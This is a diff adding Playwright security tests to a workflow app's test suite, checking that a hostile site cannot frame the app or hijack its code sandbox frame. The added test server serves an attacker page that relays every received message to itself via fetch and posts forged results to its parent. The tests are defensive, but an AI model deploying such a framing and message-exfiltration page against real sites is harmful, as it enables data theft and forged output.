@@ -1,4 +1,5 @@
 import { expect, test } from '@playwright/test';
+import { startLocalServer, type LocalServer } from '../support/localServer';
 import { activateAndRun, countRecords, createCompany, importJson, manualWorkflow, openApp, storedRows, waitForServiceWorker } from './helpers';
 
 const code = (id: string, name: string, body: string, next: string[] = []) =>
@@ -88,4 +89,65 @@ test('webhook keys constructor, __proto__ and toString give 202 and their values
   expect(answers.reason).toContain('larger than 1 MB');
   await expect.poll(() => countRecords(page, 'company', { field: 'name', equals: 'built text proto' })).toBe(1);
   expect((await storedRows(page, 'runs')).length).toBe(1);
+});
+
+test.describe('framing', () => {
+  let attacker: LocalServer;
+  const seen: string[] = [];
+  test.beforeAll(async () => {
+    attacker = await startLocalServer((req, res) => {
+      if (req.method === 'POST') {
+        seen.push(req.body);
+        return void res.writeHead(204).end();
+      }
+      const app = new URL(req.url ?? '/', 'http://x').searchParams.get('app') ?? '';
+      // Frames the app if asked to; as a replacement for the app's sandbox frame, reports every
+      // message it gets and keeps posting forged code results to its parent.
+      res.writeHead(200, { 'content-type': 'text/html' }).end(`<!doctype html><body>${app ? `<iframe src="${app}" width="800" height="600"></iframe>` : ''}<script>
+        const report = (data) => fetch(location.origin + '/seen', { method: 'POST', body: JSON.stringify(data) }).catch(() => {});
+        addEventListener('message', (e) => report({ data: String(JSON.stringify(e.data)), ports: e.ports.length }));
+        setInterval(() => parent.postMessage({ id: 'any', ok: true, value: { forged: true }, valueJson: '{"forged":true}', logs: [] }, '*'), 20);
+      </script></body>`);
+    }, { cors: { headers: 'content-type' } });
+  });
+  test.afterAll(() => attacker.close());
+
+  test('another site that frames Localflow gets nothing: the app is not shown in its frame, with or without the service worker', async ({ page, baseURL }) => {
+    for (const round of ['fresh', 'service worker installed']) {
+      if (round !== 'fresh') {
+        await openApp(page);
+        await waitForServiceWorker(page);
+      }
+      await page.goto(`${attacker.base}/?app=${encodeURIComponent(`${baseURL}/objects/person`)}`);
+      await page.waitForTimeout(1500);
+      const framed = page.frames().filter((f) => f !== page.mainFrame());
+      expect(framed.length).toBeGreaterThan(0);
+      for (const frame of framed) {
+        const shown = await frame.evaluate(() => !!document.querySelector('.shell')).catch(() => false);
+        expect(shown, `${round}: the app rendered inside ${frame.url()}`).toBe(false);
+      }
+    }
+  });
+
+  test('a sandbox frame navigated to another document receives no code and forges no result', async ({ page }) => {
+    await openApp(page);
+    await importJson(page, manualWorkflow('Genuine', [code('c', 'Genuine result', 'export const main = async (p) => ({ genuine: true, secret: "s3cret-param" });')]));
+    await activateAndRun(page);
+    await expect(page.getByTestId('run-status')).toHaveText('Completed');
+    // As a framing page would: the app's sandbox frame is navigated to a foreign document.
+    await page.evaluate((url) => { (document.querySelector('iframe[title="Code sandbox"]') as HTMLIFrameElement).contentWindow!.location.href = url; }, `${attacker.base}/`);
+    await expect.poll(() => page.evaluate(() => document.querySelectorAll('iframe[title="Code sandbox"]').length)).toBe(0);
+    seen.length = 0;
+    for (let i = 0; i < 2; i++) {
+      await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Workflows' }).click();
+      await page.getByRole('link', { name: 'Genuine' }).click();
+      await page.getByRole('button', { name: '▶ Run' }).click();
+      await expect(page.getByTestId('run-status')).toHaveText('Completed');
+      const step = page.getByRole('listitem', { name: 'Genuine result: SUCCESS' });
+      await step.getByText('Input and output').click();
+      await expect(step.getByLabel('Output')).toContainText('"genuine": true');
+      await expect(step.getByLabel('Output')).not.toContainText('forged');
+    }
+    expect(seen.filter((s) => s.includes('s3cret') || s.includes('main'))).toEqual([]);
+  });
 });
